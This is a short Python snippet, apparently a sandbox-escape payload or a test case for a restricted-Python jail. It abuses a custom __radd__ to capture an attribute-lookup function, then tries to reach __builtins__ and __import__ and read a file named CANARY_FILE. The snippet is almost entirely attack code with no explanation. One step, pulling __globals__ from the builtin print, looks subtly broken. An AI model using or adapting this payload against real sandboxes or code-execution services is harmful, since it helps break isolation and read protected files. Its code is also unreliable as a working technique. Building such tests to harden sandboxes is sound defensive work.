# Has a name read while it is added to.
class Spy:
    def __radd__(self, other):
        kept.append(other)
        return self
kept = []
class Own:
    pass
Own.__getattribute__ += Spy()
out = kept[0](print, '__globals__')['__builtins__']['__import__']
print(out('builtins').open('CANARY_FILE').read())
